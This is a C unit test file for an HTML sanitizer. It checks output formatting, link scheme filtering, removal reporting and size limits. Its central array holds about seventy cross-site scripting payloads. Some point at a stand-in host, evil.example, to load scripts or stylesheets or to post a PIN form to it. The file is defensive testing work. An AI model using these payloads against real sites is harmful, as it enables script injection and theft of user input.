/* SPDX-License-Identifier: Apache-2.0 */
/*
 * test_clean.c: what comes out of the cleaner, exactly, and that none of the known ways to smuggle
 * script past a cleaner leaves anything behind.
 */
#include "html/clean.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include "base/buf.h"
#include "base/limits.h"

static struct arena arena;

static struct html_clean clean(const char *in)
{
	struct html_clean result, again;

	assert_int_equal(html_clean(&arena, text_of(in), &result), 0);
	assert_int_equal(html_clean(&arena, result.html, &again), 0);
	assert_true(text_eq(result.html, again.html));
	assert_int_equal(again.removed_count, 0);
	return result;
}

#define LINK "<a href=\"%s\" rel=\"noopener noreferrer\" target=\"_blank\">"

static void what_is_known_stays(void **unused)
{
	static const struct {
		const char *in, *out;
	} rows[] = {
	    {"", ""},
	    {" \n\t ", ""},
	    {"plain text", "<p>plain text</p>\n"},
	    {"<p>one</p><p>two</p>", "<p>one</p>\n<p>two</p>\n"},
	    {"<P>One<P>two", "<p>One</p>\n<p>two</p>\n"},
	    {"<p>a <b>bold</b> and <em>em</em></p>", "<p>a <b>bold</b> and <em>em</em></p>\n"},
	    {"<p>a<br/>b<br >c</p>", "<p>a<br>b<br>c</p>\n"},
	    {"<h2>head</h2>text", "<h2>head</h2>\n<p>text</p>\n"},
	    {"<h1>a</h1><h4>b</h4>", "<h2>a</h2>\n<h3>b</h3>\n"},
	    {"<ul><li>a<li>b</ul>", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n"},
	    {"<ol>stray<li>b</ol>", "<ol>\n<li>stray</li>\n<li>b</li>\n</ol>\n"},
	    {"<ul><li>a<ol><li>b</ol>c</ul>",
	     "<ul>\n<li>a<ol>\n<li>b</li>\n</ol>\nc</li>\n</ul>\n"},
	    {"<ul><ul><li>x", "<ul>\n<li><ul>\n<li>x</li>\n</ul>\n</li>\n</ul>\n"},
	    {"<b>a<p>b</b>c", "<p><b>a</b></p>\n<p>bc</p>\n"},
	    {"<p><b><i>x</b>y</i>z", "<p><b><i>x</i></b>yz</p>\n"},
	    {"a   b\n\n c", "<p>a b c</p>\n"},
	    {"<p lang=\"de\" dir='rtl'>x", "<p lang=\"de\" dir=\"rtl\">x</p>\n"},
	    {"<p>a &amp; b &lt; c &quot;d&quot; &#39;",
	     "<p>a &amp; b &lt; c &quot;d&quot; &#39;</p>\n"},
	    {"&auml;&#228;&#xE4;&euro;", "<p>\xc3\xa4\xc3\xa4\xc3\xa4\xe2\x82\xac</p>\n"},
	    {"&unknown; &amp &#; &#x; &#xFFFFFFFFFF;",
	     "<p>&amp;unknown; &amp;amp &amp;#; &amp;#x; &amp;#xFFFFFFFFFF;</p>\n"},
	    {"a&#0;&#xD800;&#x110000;b", "<p>a\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd"
					 "b</p>\n"},
	    {"1 < 2 <3 <", "<p>1 &lt; 2 &lt;3 &lt;</p>\n"},
	    {"\xd8\xb3\xd9\x84\xd8\xa7\xd9\x85", "<p>\xd8\xb3\xd9\x84\xd8\xa7\xd9\x85</p>\n"},
	};

	(void)unused;
	for (size_t i = 0; i < ARRAY_LEN(rows); i++)
		assert_string_equal(arena_cstr(&arena, clean(rows[i].in).html), rows[i].out);
}

static void links_lead_to_https_and_mail_only(void **unused)
{
	static const char *const good[] = {
	    "https://contoso.test/", "https://contoso.test:8443/a?b#c", "mailto:help@contoso.test"};
	static const char *const bad[] = {
	    "http://contoso.test/",
	    "javascript:alert(1)",
	    "JaVaScRiPt:alert(1)",
	    "java&#10;script:alert(1)",
	    "&#106;avascript:alert(1)",
	    "&#x6A;avascript&colon;alert(1)",
	    "data:text/html,x",
	    "vbscript:x",
	    "//evil.example/",
	    "/relative",
	    "",
	    "https://",
	    "https:///x",
	    "https://a@evil.example/",
	    "https://a:b@evil.example/",
	    "https://contoso.test:/",
	    "https://contoso.test\\@evil.example/",
	    "https://cont\xc3\xb6so.test/",
	    "https://a/ b",
	    "https://a/&quot;onclick=x",
	    "mailto:",
	};
	struct html_clean result;

	(void)unused;
	for (size_t i = 0; i < ARRAY_LEN(good); i++) {
		result = clean(arena_printf(&arena, "<a href=\"%s\">x</a>", good[i]));
		assert_string_equal(arena_cstr(&arena, result.html),
				    arena_printf(&arena, "<p>" LINK "x</a></p>\n", good[i]));
		assert_int_equal(result.removed_count, 0);
	}
	for (size_t i = 0; i < ARRAY_LEN(bad); i++) {
		result = clean(arena_printf(&arena, "<a href=\"%s\">x</a>", bad[i]));
		assert_string_equal(arena_cstr(&arena, result.html), "<p>x</p>\n");
		assert_int_equal(result.removed_count, 1);
	}
	/* The scheme is written as one spelling, and of two addresses the first counts. */
	assert_string_equal(arena_cstr(&arena, clean("<A HREF=' HTTPS://a/ ' href=b>x").html),
			    arena_printf(&arena, "<p>" LINK "x</a></p>\n", "https://a/"));
	/* No link in a link. */
	assert_string_equal(
	    arena_cstr(&arena, clean("<a href=https://a/>x<b>y<a href=https://b/>z").html),
	    arena_printf(&arena, "<p>" LINK "x<b>y</b></a>" LINK "z</a></p>\n", "https://a/",
			 "https://b/"));
}

/* Each leaves nothing but text behind. */
static const char *const payloads[] = {
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<script/x>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "<script>alert(1)",
    "<script><!--</script><script>alert(1)//--></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<IMG SRC=`javascript:alert(1)`>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
    "<math><mi//xlink:href=\"data:x,<script>alert(4)</script>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<p onclick=alert(1)>x</p>",
    "<p/onclick=alert(1)>x</p>",
    "<p \"onclick=alert(1)\">x</p>",
    "<p a='>' onclick=alert(1)>x</p>",
    "<p lang='\"><script>alert(1)</script>'>x</p>",
    "<p dir=\"ltr&quot;onclick=alert(1)\">x</p>",
    "<a href=https://a/ onmouseover=alert(1)>x</a>",
    "<a href=\"https://a/\" target=_top style=position:fixed>x</a>",
    "<a href=\"https://a/&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;\">x</a>",
    "<a href=\"\x01javascript:alert(1)\">x</a>",
    "<a href=\"jav\tascript:alert(1)\">x</a>",
    "<a/href=javascript:alert(1)>x</a>",
    "<a href=javascript&#58;alert(1)>x</a>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<link rel=stylesheet href=https://evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<base href=https://evil.example/>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=https://evil.example/><input name=pin><button>Accept</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<textarea><script>alert(1)</script></textarea>",
    "<textarea></textarea/><script>alert(1)</script>",
    "<title><script>alert(1)</script></title>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<select><script>alert(1)</script></select>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>x</body>",
    "<!--><script>alert(1)</script>-->",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
    "<!DOCTYPE html [<!ENTITY x \"<script>alert(1)</script>\">]>&x;",
    "</p></main></form><form action=https://evil.example/>",
    "</script><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;script&amp;gt;",
    "<\x0bscript>alert(1)</script>",
    "<p style=\"background:url(https://evil.example/)\">x</p>",
    "<p id=state name=state>x</p>",
    "<ul><li><script>alert(1)</script><li onclick=x>y</ul>",
    "<b><script></b>alert(1)</script>",
    "<p><noembed><p></noembed><img src=x onerror=alert(1)>",
};

static bool is_known_name(struct text name)
{
	static const char *const names[] = {"p",  "h2", "h3", "ul", "ol",     "li",
					    "br", "b",  "i",  "em", "strong", "a"};

	for (size_t i = 0; i < ARRAY_LEN(names); i++)
		if (text_eq_c(name, names[i]))
			return true;
	return false;
}

static void case20_no_payload_leaves_markup_behind(void **unused)
{
	(void)unused;
	for (size_t i = 0; i < ARRAY_LEN(payloads); i++) {
		struct html_clean result = clean(payloads[i]);
		struct text rest = result.html;

		text_cut(&rest, '<');
		while (rest.ptr) {
			struct text tag = text_cut(&rest, '>');
			struct text name;

			assert_non_null(rest.ptr);
			if (text_starts(tag, TEXT("/")))
				tag = text_from(tag, 1);
			name = tag;
			name = text_cut(&name, ' ');
			assert_true(is_known_name(name));
			/* No payload holds an attribute that may stay but these. */
			tag = text_from(tag, name.len);
			if (tag.len > 0)
				assert_string_equal(arena_cstr(&arena, tag),
						    " href=\"https://a/\" rel=\"noopener "
						    "noreferrer\" target=\"_blank\"");
			text_cut(&rest, '<');
		}
	}
}

static bool has_removed(const struct html_clean *result, const char *what)
{
	for (size_t i = 0; i < result->removed_count; i++)
		if (!strcmp(result->removed[i], what))
			return true;
	return false;
}

static void what_was_left_out_is_told(void **unused)
{
	struct html_clean result =
	    clean("<div class=x><p onclick=y style=z>a</p><script>b</script><!-- c -->"
		  "<a href=http://d/>e</a><li>f<p lang=\"a b\"><script>again</script>");
	struct buf many;

	(void)unused;
	assert_string_equal(arena_cstr(&arena, result.html),
			    "<p>a</p>\n<p>e</p>\n<p>f</p>\n<p></p>\n");
	assert_true(has_removed(&result, "element div"));
	assert_true(has_removed(&result, "attribute onclick of p"));
	assert_true(has_removed(&result, "attribute style of p"));
	assert_true(has_removed(&result, "attribute lang of p"));
	assert_true(has_removed(&result, "element script"));
	assert_true(has_removed(&result, "comment or declaration"));
	assert_true(has_removed(&result, "link that is not to https: or mailto:"));
	assert_true(has_removed(&result, "element li outside a list"));
	assert_int_equal(result.removed_count, 8);
	buf_init(&many, &arena);
	for (int i = 0; i < 100; i++)
		buf_printf(&many, "<x%d>", i);
	result = clean(many.data);
	assert_int_equal(result.removed_count, HTML_REMOVED_MAX);
	assert_string_equal(result.removed[HTML_REMOVED_MAX - 1], "more");
	result = clean("<x\xc3\xa4\"'>a");
	assert_string_equal(result.removed[0], "element of an odd name");
}

static void text_is_told_from_none(void **unused)
{
	(void)unused;
	assert_false(clean("<p> <br></p><ul><li></ul><script>x</script>").has_text);
	assert_true(clean("<p>.</p>").has_text);
	assert_false(clean("\xef\xbb\xbf<p>\xef\xbb\xbf \xe2\x80\x8b</p>").has_text);
	assert_true(text_eq_c(clean("\xef\xbb\xbf<p>a\xe2\x80\x8b"
				    "b</p>")
				  .html,
			      "<p>a\xe2\x80\x8b"
			      "b</p>\n"));
}

static char *repeated(const char *what, size_t n)
{
	struct buf buf;

	buf_init(&buf, &arena);
	for (size_t i = 0; i < n; i++)
		buf_add_c(&buf, what);
	return buf.data;
}

static void everything_is_bounded(void **unused)
{
	struct html_clean result;

	(void)unused;
	assert_int_equal(html_clean(&arena, text_of(repeated("a", LIMIT_HTML - 8)), &result), 0);
	assert_int_equal(html_clean(&arena, text_of(repeated("a", LIMIT_HTML - 7)), &result),
			 HTML_E_TOO_LARGE); /* with the paragraph around it */
	assert_int_equal(html_clean(&arena, text_of(repeated("a", LIMIT_HTML + 1)), &result),
			 HTML_E_TOO_LARGE);
	assert_int_equal(html_clean(&arena, text_of(repeated("&", 20000)), &result),
			 HTML_E_TOO_LARGE);
	assert_int_equal(
	    html_clean(&arena, text_of(repeated("<b>", LIMIT_HTML_DEPTH - 1)), &result),
	    0); /* with the paragraph around them */
	assert_int_equal(html_clean(&arena, text_of(repeated("<b>", LIMIT_HTML_DEPTH)), &result),
			 HTML_E_TOO_DEEP);
	assert_int_equal(html_clean(&arena, text_of(repeated("<ul>", LIMIT_HTML_DEPTH)), &result),
			 HTML_E_TOO_DEEP);
	assert_int_equal(html_clean(&arena, text_of(repeated("<p>", LIMIT_HTML_ELEMENTS)), &result),
			 0);
	assert_int_equal(
	    html_clean(&arena, text_of(repeated("<p>", LIMIT_HTML_ELEMENTS + 1)), &result),
	    HTML_E_TOO_MANY);
	assert_int_equal(
	    html_clean(&arena, text_of(repeated("<br>", LIMIT_HTML_ELEMENTS)), &result),
	    HTML_E_TOO_MANY);
	result = clean(arena_printf(&arena, "<p %s lang=de>x", repeated("a=b ", 40)));
	assert_true(has_removed(&result, "more attributes of p"));
	assert_string_equal(arena_cstr(&arena, result.html), "<p>x</p>\n");
}

static void only_utf8_is_read(void **unused)
{
	struct html_clean result;

	(void)unused;
	assert_int_equal(html_clean(&arena, TEXT("a\xff"), &result), HTML_E_ENCODING);
	assert_int_equal(html_clean(&arena, TEXT("a\xc0\xbcscript>"), &result), HTML_E_ENCODING);
	assert_int_equal(html_clean(&arena, TEXT("a\0b"), &result), HTML_E_ENCODING);
}

static int setup(void **unused)
{
	(void)unused;
	arena_init(&arena);
	return 0;
}

static int teardown(void **unused)
{
	(void)unused;
	arena_done(&arena);
	return 0;
}

#define CASE(function) cmocka_unit_test_setup_teardown(function, setup, teardown)

int main(void)
{
	const struct CMUnitTest tests[] = {
	    CASE(what_is_known_stays),
	    CASE(links_lead_to_https_and_mail_only),
	    CASE(case20_no_payload_leaves_markup_behind),
	    CASE(what_was_left_out_is_told),
	    CASE(text_is_told_from_none),
	    CASE(everything_is_bounded),
	    CASE(only_utf8_is_read),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
